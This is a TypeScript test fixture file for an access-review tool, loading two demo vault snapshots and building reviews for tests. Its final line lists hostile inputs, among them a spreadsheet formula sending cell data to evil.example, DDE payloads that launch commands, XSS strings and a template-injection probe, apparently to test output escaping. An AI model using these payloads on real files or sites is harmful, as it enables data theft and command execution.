/** Shared fixtures for the access review tests: the two demo snapshots a month apart, and a review as `vaultproof review` builds it. */
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { loadBundle } from '../../src/engine/bundle.js';
import { Engine } from '../../src/engine/evaluate.js';
import { reviewInputs, type PreviousReview } from '../../src/review/inputs.js';
import { buildReview } from '../../src/review/review.js';
import { reviewSourceOf } from '../../src/review/source.js';
import { streamOf } from '../../src/findings/stream.js';
import type { ReviewConfig } from '../../src/review/config.js';
import type { ReviewDocument } from '../../src/review/types.js';
import { renderAccessReviewJson } from '../../src/review/view/access-review-json.js';
import { sha256Hex } from '../../src/evidence/encoding.js';
import type { Snapshot } from '../../src/snapshot/types.js';

export const ROOT = join(dirname(fileURLToPath(import.meta.url)), '..', '..');
export const DEMO = join(ROOT, 'fixtures', 'demo', 'snapshot.json');
export const DEMO_PREVIOUS = join(ROOT, 'fixtures', 'demo', 'snapshot-previous.json');

export const november = (): Snapshot => JSON.parse(readFileSync(DEMO, 'utf8')) as Snapshot;
export const october = (): Snapshot => JSON.parse(readFileSync(DEMO_PREVIOUS, 'utf8')) as Snapshot;

/** The review of a snapshot: evaluated once by the engine with the review's inputs (roster, attested decisions), then built from those findings. */
export async function review(snapshot: Snapshot, opts: { config?: ReviewConfig; previous?: PreviousReview } = {}): Promise<ReviewDocument> {
  const inputs = reviewInputs(snapshot, Object.keys(snapshot.vaults), opts.config, opts.previous);
  const engine = await Engine.create(loadBundle(), { review: inputs.policy });
  const findings = engine.evaluate(inputs.snapshot, { toolVersion: '0.0.0-test' });
  return buildReview({ source: reviewSourceOf(inputs.snapshot), findings: streamOf(findings), toolVersion: '0.0.0-test', notes: inputs.notes, ...opts });
}

/** A review as next month reads it back: its JSON bytes' digest. */
export function asPrevious(doc: ReviewDocument, extra: Partial<PreviousReview> = {}): PreviousReview {
  return { review: doc, sha256: sha256Hex(renderAccessReviewJson(doc)), source: 'access-review.json', ...extra };
}

export function tempDir(prefix: string): string {
  return mkdtempSync(join(tmpdir(), `vp-review-${prefix}-`));
}

export const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C notepad\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', '{{7*7}}'];
